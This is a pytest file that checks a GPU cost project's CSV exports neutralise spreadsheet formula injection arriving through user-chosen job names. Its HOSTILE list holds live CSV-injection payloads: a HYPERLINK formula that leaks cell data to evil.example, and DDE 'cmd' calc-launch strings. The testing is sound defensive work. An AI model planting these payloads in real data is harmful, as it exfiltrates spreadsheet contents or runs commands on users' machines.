"""CSV formula injection (OWASP "CSV Injection"): job names a user chooses (``sbatch -J '=HYPERLINK(…)'``) reach the
costs CSV of the REST API and of ``gpu-finops report`` as text a spreadsheet shows, not runs, while the project's
own numbers (a negative amount) stay numbers; the FOCUS export escapes its text columns only; and no module writes
CSV except through :mod:`finops.csv_cells`."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import pandas as pd
from sqlalchemy import select
from typer.testing import CliRunner

from dashboards.format import frame_csv
from finops.cli import app
from finops.csv_cells import FORMULA_LEADS, NUMBER, dict_rows_csv
from finops.db.models import Job
from finops.export.focus_format import COLUMN_NAMES, write_csv
from finops.web.app import create_app
from tests.support.servers import running

TOKEN = "csv-token"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_inert(text: str) -> None:
    """No cell of CSV ``text`` would run as a formula: each begins with none of the formula characters or is a
    plain number."""
    for row in _cells(text):
        for value in row:
            assert not value.startswith(FORMULA_LEADS) or NUMBER.fullmatch(value), value


def _name_jobs(sessions) -> None:  # type: ignore[no-untyped-def]
    with sessions.begin() as session:
        for job, name in zip(session.scalars(select(Job).order_by(Job.id)), HOSTILE, strict=False):
            job.name = name


def test_hostile_job_names_are_text_in_the_costs_csv(loaded, database_url) -> None:  # type: ignore[no-untyped-def]
    sessions, t0, _, _ = loaded
    _name_jobs(sessions)
    period = {"start": t0.isoformat(), "end": (t0 + timedelta(hours=2)).isoformat()}
    with running(create_app(sessions, "ingest-only", api_token=TOKEN)) as url:
        answered = httpx.get(
            f"{url}/api/v1/costs", params={**period, "group_by": "job", "format": "csv"},
            headers={"Authorization": f"Bearer {TOKEN}"},
        )  # fmt: skip
    assert answered.status_code == 200, answered.text
    command = ["report", "--start", period["start"], "--end", period["end"], "--by", "job", "--format", "csv"]
    printed = CliRunner().invoke(app, command, env={"FINOPS_DATABASE_URL": database_url})
    assert printed.exit_code == 0, printed.output
    for text in (answered.text, printed.stdout):
        _assert_inert(text)
        rows = list(csv.DictReader(io.StringIO(text)))
        names = {row["name"] for row in rows}
        assert {"'" + HOSTILE[0], "'" + HOSTILE[1]} <= names, names
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in text, "escaped, quoted, quotes doubled"
        assert all(Decimal(row["allocated_cost"]) >= 0 for row in rows if row["allocated_cost"])


def test_numbers_stay_numbers_and_text_is_escaped() -> None:
    text = dict_rows_csv(
        ["name", "amount", "text_amount", "note"],
        [{"name": "-2+3", "amount": Decimal("-12.50"), "text_amount": "-12.50", "note": "\tx"},
         {"name": "@here", "amount": -3, "text_amount": "+1.5e-05", "note": "\r=1"}],
    )  # fmt: skip
    assert _cells(text) == [
        ["name", "amount", "text_amount", "note"],
        ["'-2+3", "-12.50", "-12.50", "'\tx"],
        ["'@here", "-3", "+1.5e-05", "'\r=1"],
    ]
    assert text.splitlines()[1] == '"\'-2+3",-12.50,-12.50,"\'\tx"'


def test_the_dashboard_download_escapes_text_and_keeps_numbers() -> None:
    frame = pd.DataFrame({"job": ["=cmd()", "train"], "cost": [Decimal("-1.50"), None], "share": [0.25, float("nan")]})
    assert _cells(frame_csv(frame)) == [["job", "cost", "share"], ["'=cmd()", "-1.50", "0.25"], ["train", "", ""]]


def test_the_focus_csv_escapes_its_text_columns_only(tmp_path: Path) -> None:
    row: dict[str, object] = dict.fromkeys(COLUMN_NAMES)
    row.update(ResourceName="=1+1", SubAccountName="-team", BilledCost=Decimal("-4.250000"))
    path = tmp_path / "focus.csv"
    assert write_csv([row], path) == 1
    (record,) = csv.DictReader(io.StringIO(path.read_text(encoding="utf-8")))
    assert (record["ResourceName"], record["SubAccountName"], record["BilledCost"]) == ("'=1+1", "'-team", "-4.250000")
    _assert_inert(path.read_text(encoding="utf-8"))


def test_every_csv_writer_goes_through_the_shared_helper() -> None:
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(")
    found = [p for p in (root / "finops").rglob("*.py") if writers.search(p.read_text(encoding="utf-8"))]
    found += [p for p in (root / "alerts").rglob("*.py") if writers.search(p.read_text(encoding="utf-8"))]
    found += [p for p in (root / "dashboards").rglob("*.py") if writers.search(p.read_text(encoding="utf-8"))]
    assert found == [], "write CSV with finops.csv_cells"
